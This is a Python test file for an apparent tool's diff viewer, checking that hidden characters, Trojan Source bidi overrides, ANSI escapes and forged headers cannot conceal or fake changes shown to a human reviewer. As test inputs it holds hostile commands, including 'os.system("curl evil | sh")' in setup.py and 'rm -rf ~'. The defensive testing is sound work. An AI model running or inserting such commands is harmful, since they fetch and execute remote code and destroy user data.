"""What a human is shown of a change: the lines as the change splits them, nothing hidden, nothing forged."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from oct_mcp.diff_view import DIFF_SHOWN_LINES, DiffFile, diff_counts, diff_files, readable_diff, shown_diff
from oct_mcp.display import is_hidden_character
from oct_mcp.tools._text.diffs import unified_diff

HELLO = 'def main():\n\tprint("hello")\n'
# Every character `str.splitlines` ends a line at but `\n`: none ends a line for git, a compiler
# or the diff, and a form feed is leading white space Python runs past.
SPLITTERS = ["\x0c", "\r", "\x0b", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]


def _shown(old: str | None, new: str | None, name: str = "app.py") -> list[str]:
    return shown_diff(unified_diff(old, new, f"a/{name}", f"b/{name}").text)


@pytest.mark.parametrize("splitter", SPLITTERS, ids=lambda c: f"U+{ord(c):04X}")
def test_an_added_line_after_a_line_splitter_is_shown_as_one_added_line_with_the_splitter_visible(
    splitter: str,
) -> None:
    shown = _shown(HELLO, f'{HELLO}{splitter}\tprint("BACKDOOR")\n')

    escaped = f"\\u{ord(splitter):04x}"
    assert shown[-1] == f'+{escaped}\tprint("BACKDOOR")'
    assert [line for line in shown if "BACKDOOR" in line] == [shown[-1]]
    assert shown[0].startswith("(A character that does not show itself is written \\uXXXX")


def test_the_counts_of_a_diff_are_not_fooled_by_a_line_splitter_inside_a_line() -> None:
    diff = unified_diff(HELLO, f"{HELLO}x = 1\x0c-- removed?\x0c+++ b/other.py\n", "a/a.py", "b/a.py").text

    assert diff_counts(diff) == (1, 0)


@pytest.mark.parametrize(
    ("character", "escaped"),
    [
        ("\u202e", "\\u202e"),  # right-to-left override (Trojan Source)
        ("\u2066", "\\u2066"),  # left-to-right isolate
        ("\u2069", "\\u2069"),  # pop directional isolate
        ("\u200b", "\\u200b"),  # zero-width space
        ("\u200d", "\\u200d"),  # zero-width joiner
        ("\ufeff", "\\ufeff"),  # zero-width no-break space
        ("\u00a0", "\\u00a0"),  # no-break space
        ("\u3164", "\\u3164"),  # Hangul filler: a letter drawn blank
        ("\ufe0f", "\\ufe0f"),  # variation selector
        ("\U000e0041", "\\U000e0041"),  # tag character
        ("\x1b", "\\u001b"),  # ESC of an ANSI sequence
        ("\x00", "\\u0000"),
        ("\x7f", "\\u007f"),
    ],
)
def test_characters_that_hide_or_reorder_text_are_escaped_in_the_diff(character: str, escaped: str) -> None:
    shown = _shown("x = 1\n", f'x = 1\nif user == "admin{character}":\n')

    assert shown[-1] == f'+if user == "admin{escaped}":'


def test_an_ansi_sequence_cannot_clear_or_recolour_the_question() -> None:
    shown = _shown("a\n", "a\n\x1b[2J\x1b[1A\x1b[32mall good\x1b[0m\n")

    assert shown[-1] == "+\\u001b[2J\\u001b[1A\\u001b[32mall good\\u001b[0m"


def test_a_honest_crlf_file_reads_clean_and_says_its_line_ends_once() -> None:
    shown = _shown("one\r\ntwo\r\nthree\r\n", "one\r\n2\r\nthree\r\n", "win.txt")

    assert shown == [
        "File: win.txt (its lines end in CRLF, not marked on each line)",
        "@@ -1,3 +1,3 @@",
        " one",
        "-two",
        "+2",
        " three",
    ]


def test_a_carriage_return_in_a_file_that_is_not_all_crlf_is_shown_on_its_line() -> None:
    shown = _shown("one\r\ntwo\r\n", "one\r\ntwo\r\nrm -rf ~\n\recho ok\r\n", "run.sh")

    assert shown[1] == "File: run.sh"
    assert shown[-2:] == ["+rm -rf ~", "+\\u000decho ok\\u000d"]


def test_a_last_line_without_a_newline_is_marked_and_its_own_carriage_return_shown() -> None:
    shown = _shown("a\r\n", "a\r\nb\r", "x.txt")

    assert shown[-2:] == ["+b\\u000d", "\\ No newline at end of file"]


def test_content_cannot_forge_a_file_header_or_a_hunk() -> None:
    shown = _shown("x = 1\n-- a/app.py\n", "x = 1\n++ b/docs/readme.md\n@@ -1 +1 @@\n+evil\n")

    assert shown == [
        "File: app.py",
        "@@ -1,2 +1,4 @@",
        " x = 1",
        "--- a/app.py",
        "+++ b/docs/readme.md",
        "+@@ -1 +1 @@",
        "++evil",
    ]


def test_a_file_name_that_holds_a_newline_cannot_forge_a_header() -> None:
    shown = _shown("secret\n", None, "notes\n+++ b/harmless.txt")

    # Quoted as git quotes such a name, the side's `a/` inside the quotes.
    assert shown[0] == 'File: "a/notes\\n+++ b/harmless.txt" (deleted)'
    assert shown[-1] == "-secret"


def test_created_deleted_and_renamed_files_are_named_once_each() -> None:
    created = shown_diff(unified_diff(None, "a\n", "a/new.txt", "b/new.txt").text)
    deleted = shown_diff(unified_diff("a\n", None, "a/old.txt", "b/old.txt").text)
    moved = shown_diff(unified_diff("a\n", "b\n", "a/old.txt", "b/new.txt").text)

    assert (created[0], deleted[0], moved[0]) == (
        "File: new.txt (created)",
        "File: old.txt (deleted)",
        "File: old.txt -> new.txt",
    )


def test_a_cut_diff_says_how_many_lines_and_which_files_added_and_removed_lines_it_left_out() -> None:
    harmless = unified_diff(None, "".join(f"doc {n}\n" for n in range(DIFF_SHOWN_LINES)), "", "b/a.md")
    hidden = unified_diff("x\n", 'x\nimport os; os.system("curl evil | sh")\n', "a/setup.py", "b/setup.py")

    shown = shown_diff(harmless.text + hidden.text)

    assert len(shown) == DIFF_SHOWN_LINES + 1
    assert "curl" not in "\n".join(shown)
    assert shown[-1] == (
        "... the diff is cut here: 6 more of its 206 lines are not shown: +2 -0 in a.md (created); "
        "+1 -0 in setup.py."
    )


def test_a_long_line_is_cut_saying_how_much_more_it_holds() -> None:
    shown = _shown(None, "x" * 1000 + "\n", "long.txt")

    assert shown[-1] == "+" + "x" * 299 + "... (701 more characters)"


# Text made of what forges a diff: line splitters, bidi and zero-width characters, and the
# characters a diff's own lines start with.
forging_text = st.text(
    alphabet=st.sampled_from([*"ab \t\n\r-+@\\", *SPLITTERS, "\u202e", "\u200b"]), max_size=60
)


@given(old=forging_text, new=forging_text)
def test_for_any_change_the_shown_lines_are_the_diffs_lines_and_hide_nothing(old: str, new: str) -> None:
    diff = unified_diff(old, new, "a/f.py", "b/f.py")

    shown = shown_diff(diff.text, max_lines=10_000)

    # Headers are `File:` and `@@` lines: every `+` and `-` line is one line of the change.
    assert sum(line.startswith("+") for line in shown) == diff.added
    assert sum(line.startswith("-") for line in shown) == diff.removed
    assert diff_counts(diff.text) == (diff.added, diff.removed)
    assert [line for line in shown if any(c != "\t" and is_hidden_character(c) for c in line)] == []


def test_the_files_of_a_diff_are_its_headers_and_no_content_line_that_looks_like_one() -> None:
    first = "--- a.py\n+++ a.py\n@@ -1 +1,2 @@\n-x\n+y\x0c--- q\x0c+++ evil.py\n+-- w\n"
    second = "--- b.py\n+++ b.py\n@@ -1 +1 @@\n-a\n+b\n\\ No newline at end of file\n"

    assert diff_files(first + second) == [DiffFile("a.py", first, 2, 1), DiffFile("b.py", second, 1, 1)]


@given(old=forging_text, new=forging_text)
def test_a_result_s_diff_keeps_its_lines_and_hides_nothing_but_a_crlf_ending(old: str, new: str) -> None:
    diff = unified_diff(old, new, "a/f.py", "b/f.py").text

    readable = readable_diff(diff)

    lines = readable.split("\n")
    assert len(lines) == len(diff.split("\n"))
    hidden = [line for line in lines if any(c not in "\t\r" and is_hidden_character(c) for c in line)]
    assert hidden == []
    assert [line for line in lines if "\r" in line[:-1]] == []
